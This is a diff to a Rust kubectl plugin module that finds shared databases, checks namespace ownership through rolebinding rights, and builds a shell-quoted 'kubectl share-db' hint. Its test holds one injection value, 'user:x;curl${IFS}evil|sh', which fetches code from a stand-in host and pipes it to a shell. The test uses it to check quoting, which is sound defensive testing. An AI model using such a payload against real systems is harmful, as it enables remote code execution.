@@ -1,8 +1,10 @@
 //! Finding the database that was typed: one's own, or one that somebody shares.
 
 use commons::card::{self, Card};
+use commons::cluster::Right;
 use commons::database::{self, Credentials, Database, Typed};
-use commons::{Cluster, Error, Kind, Result};
+use commons::shell::Shell;
+use commons::{Cluster, Error, Kind, Result, shell, subject};
 
 /// What was found.
 #[derive(Debug)]
@@ -11,8 +13,17 @@ pub struct Found {
     pub database: Database,
     /// How to log in, as far as one may know.
     pub credentials: Credentials,
-    /// What its owner wrote about it, if it is somebody else's.
+    /// What its owner wrote about it, if it is shared.
     pub card: Option<Card>,
+    /// Whether it stands in a namespace that somebody asked for and where we are no administrator.
+    pub is_among_others: bool,
+}
+
+impl Found {
+    /// Whether somebody else decides what answers.
+    pub fn is_foreign(&self) -> bool {
+        self.card.is_some() || self.is_among_others
+    }
 }
 
 /// Looks among what one may see oneself first, then among what is shared: whoever owns a database needs no card.
@@ -20,13 +31,18 @@ pub struct Found {
 /// # Errors
 /// Neither is there; what one may not see and what is not shared look the same, and the hint says whom to ask.
 pub async fn find(cluster: &Cluster, typed: &Typed) -> Result<Found> {
-    let (own, shared) = if typed.namespace.is_some() {
-        let (own, shared) =
-            futures::join!(database::find(cluster, typed), card::find(cluster, typed));
-        (own, Some(shared))
-    } else {
-        (database::find(cluster, typed).await, None)
+    let shared = async {
+        // A namespace in front is most often somebody else's.
+        match typed.namespace {
+            Some(_) => Some(card::find(cluster, typed).await),
+            None => None,
+        }
     };
+    let (own, shared, is_ours) = futures::join!(
+        database::find(cluster, typed),
+        shared,
+        is_ours(cluster, typed.namespace_in(cluster))
+    );
     let missing = match own {
         Ok(database) => {
             let credentials = database::credentials(cluster, &database).await?;
@@ -34,6 +50,7 @@ pub async fn find(cluster: &Cluster, typed: &Typed) -> Result<Found> {
                 database,
                 credentials,
                 card: None,
+                is_among_others: !is_ours,
             });
         }
         Err(error) if matches!(error.kind(), Kind::Forbidden | Kind::NotFound) => error,
@@ -55,10 +72,22 @@ pub async fn find(cluster: &Cluster, typed: &Typed) -> Result<Found> {
                 database,
                 credentials,
                 card: Some(card),
+                is_among_others: false,
             })
         }
         None => Err(not_shared(cluster, typed, missing, &others).await),
     }
+}
+
+/// Whether a namespace is our own: the kubeconfig says so, or we may give rights in it. Who may only look at a database or
+/// change it is not the one who decides what it is.
+async fn is_ours(cluster: &Cluster, namespace: &str) -> bool {
+    if !cluster.is_asked_for(namespace) {
+        return true;
+    }
+    let right = Right::of("create", "rbac.authorization.k8s.io", "rolebindings");
+    // Where nobody tells, it is somebody else's.
+    cluster.may(namespace, &right).await.unwrap_or(false)
 }
 
 /// Why nothing was found in a namespace.
@@ -85,28 +114,26 @@ async fn not_shared(cluster: &Cluster, typed: &Typed, missing: Error, others: &[
         Ok(Some(identity)) => format!("user:{}", identity.username),
         _ => String::new(),
     };
-    let with = asked_with(&own_name);
     error.hint(format!(
-        "ask its owner: `kubectl share-db {} --with {with}`",
-        typed.name
+        "ask its owner: `{}`",
+        request(&typed.name, &own_name)
     ))
 }
 
-/// A colleague's name as it can stand on the owner's command line, or a placeholder: a command that is made to be pasted
-/// holds nothing that a shell would run.
-pub fn asked_with(name: &str) -> &str {
-    let harmless = |c: char| c.is_ascii_alphanumeric() || "-._@+:/".contains(c);
-    let is_name = name.parse::<commons::subject::Typed>().is_ok();
-    if is_name && !name.starts_with('-') && name.chars().all(harmless) {
-        name
+/// The command by which a database's owner shares it with somebody; with a placeholder where that is nobody's name.
+pub fn request(database: &str, with: &str) -> Shell {
+    let command = shell("kubectl share-db").arg(database).then("--with");
+    let is_name = with.parse::<subject::Typed>().is_ok() && !with.starts_with('-');
+    if is_name {
+        command.arg(with)
     } else {
-        "USER"
+        command.then("USER")
     }
 }
 
 #[cfg(test)]
 mod tests {
-    use super::asked_with;
+    use super::request;
 
     #[test]
     fn nothing_that_a_shell_would_run_is_put_in_a_hint() {
@@ -117,7 +144,8 @@ mod tests {
             "group:/team/a",
             "serviceaccount:user-bob/default",
         ] {
-            assert_eq!(asked_with(name), name);
+            let line = request("pg", name).to_string();
+            assert_eq!(line, format!("kubectl share-db pg --with {name}"));
         }
         for name in [
             "",
@@ -129,7 +157,12 @@ mod tests {
             "bob carol",
             "user:\u{1b}[31m",
         ] {
-            assert_eq!(asked_with(name), "USER", "{name}");
+            let line = request("pg", name).to_string();
+            assert_eq!(line, "kubectl share-db pg --with USER", "{name}");
         }
+        assert_eq!(
+            request("pg", "user:x;curl${IFS}evil|sh").to_string(),
+            "kubectl share-db pg --with 'user:x;curl${IFS}evil|sh'"
+        );
     }
 }
